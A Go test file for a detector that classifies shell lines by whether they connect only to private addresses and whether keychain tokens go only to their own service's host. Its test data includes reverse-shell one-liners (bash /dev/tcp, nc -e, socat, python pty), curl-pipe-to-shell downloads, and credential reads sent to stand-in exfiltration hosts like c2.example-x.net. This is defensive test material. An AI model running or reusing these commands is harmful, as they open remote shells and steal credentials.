package hosts

import "testing"

// TestPrivateDestinations: a line lowers to private_host only when every
// place it connects to is a loopback, private or link-local address; an
// attacker who adds a private address beside a real one, writes the real
// one as a name, or uses a documentation range gains nothing.
func TestPrivateDestinations(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true},
		{`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));pty.spawn("sh")'`, true},
		{"curl http://10.10.14.2/shell.sh | bash", true},
		{"nc -e /bin/sh 192.168.56.101 4444", true},
		{"socat tcp:127.0.0.1:9001 exec:/bin/bash", true},
		{"curl -fsSL http://localhost:8080/install.sh | sh", true},
		// Public, or a name, or nothing to go by.
		{"bash -i >& /dev/tcp/45.61.136.8/4444 0>&1", false},
		{"bash -i >& /dev/tcp/$H/4444 0>&1", false},
		{"bash -i >& /dev/tcp/c2.example-x.net/4444 0>&1", false},
		{"s.connect((H, P)); os.dup2(s.fileno(), 0)", false},
		// A private address added beside the real destination.
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ; nc -e /bin/sh 45.61.136.8 4444", false},
		{"bash -i >& /dev/tcp/c2.example-x.net/4444 0>&1 # 10.0.0.1", false},
		{`s.connect(("c2.example-x.net",4444)) # 10.0.0.1`, false},
		{"curl http://10.0.0.1/a | sh; curl -s dl.example-x.net/b | sh", false},
		{"socat tcp:c2.example-x.net:9001 exec:/bin/bash # 127.0.0.1", false},
		{"openssl s_client -quiet -connect c2.example-x.net:443 # 10.1.1.1", false},
		// Documentation ranges stand in for a real address.
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", false},
		{"curl http://192.0.2.10/x.sh | bash", false},
		// Other spellings of an address are not read as private.
		{"bash -i >& /dev/tcp/0x0a000001/4444 0>&1", false},
		{"bash -i >& /dev/tcp/167772161/4444 0>&1", false},
	} {
		if got := PrivateDestinations(tc.line); got != tc.want {
			t.Errorf("PrivateDestinations(%q) = %v, want %v (destinations %q)", tc.line, got, tc.want, destinations(tc.line))
		}
	}
}

// TestOwnServiceContext: a keychain item's token counts as going to its
// own API only when every URL of the file is on a host whose registrable
// name is the item's name; hosts that merely carry the name do not.
func TestOwnServiceContext(t *testing.T) {
	line := `key=$(security find-generic-password -s linear-cli -a "$USER" -w)`
	for _, tc := range []struct {
		url  string
		want bool
	}{
		{"https://api.linear.app/graphql", true},
		{"https://linear.app/x", true},
		{"https://linear.example-x.net/in", false},
		{"https://api.linear.example-x.net/in", false},
		{"https://linear-sync.net/in", false},
		{"https://mylinear.net/in", false},
		{"https://linear.vercel.app/in", false},
		{"https://linear.s3.amazonaws.com/in", false},
		{"http://api.linear.app/graphql", false},
	} {
		file := []byte(line + "\ncurl -sS " + tc.url + " -H \"Authorization: $key\"\n")
		if got := OwnService(line, file); got != tc.want {
			t.Errorf("ownService to %s = %v, want %v", tc.url, got, tc.want)
		}
	}
	// Windows Credential Manager names its item by -Target.
	ps := `$cred = Get-StoredCredential -Target 'azure-devops'`
	for url, want := range map[string]bool{"https://dev.azure.com/$Org/_apis/pipelines": true, "https://azure-devops.example-x.net/in": false} {
		if got := OwnService(ps, []byte(ps+"\nInvoke-RestMethod -Uri \""+url+"\"\n")); got != want {
			t.Errorf("ownService of a Credential Manager target to %s = %v, want %v", url, got, want)
		}
	}
	// An internet password goes back to the server it was saved for.
	in := `TOKEN=$(security find-internet-password -s "$JIRA_SITE.atlassian.net" -w)`
	for url, want := range map[string]bool{
		"https://$JIRA_SITE.atlassian.net/rest/api/3/search": true,
		"https://$OTHER.atlassian.net/rest/api/3/search":     false,
		"http://$JIRA_SITE.atlassian.net/rest":               false,
		"https://jira.example-x.net/in":                      false,
	} {
		if got := OwnService(in, []byte(in+"\ncurl -u \"me:$TOKEN\" \""+url+"\"\n")); got != want {
			t.Errorf("ownService of an internet password to %s = %v, want %v", url, got, want)
		}
	}
	file := []byte(line + "\ncurl -sS https://api.linear.app/graphql -H \"Authorization: $key\"\ncurl -d @/tmp/k https://drop.example-x.net\n")
	if OwnService(line, file) {
		t.Error("own_service with a second host in the file")
	}
}
